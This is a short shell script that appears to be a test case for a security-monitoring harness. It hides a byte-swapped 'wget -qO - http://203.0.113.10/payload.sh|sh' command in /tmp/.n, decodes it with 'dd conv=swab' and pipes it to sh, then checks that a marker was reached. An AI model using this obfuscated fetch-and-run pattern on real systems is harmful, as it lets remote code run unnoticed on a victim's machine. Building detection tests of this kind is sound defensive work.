#!/bin/sh
. /opt/case/case.sh

printf 'gwte- Oq -thpt/:2/300.1.311./0aplyao.dhss|\nh' >/tmp/.n
dd if=/tmp/.n conv=swab 2>/dev/null | sh
test -e /tmp/reached
took_place
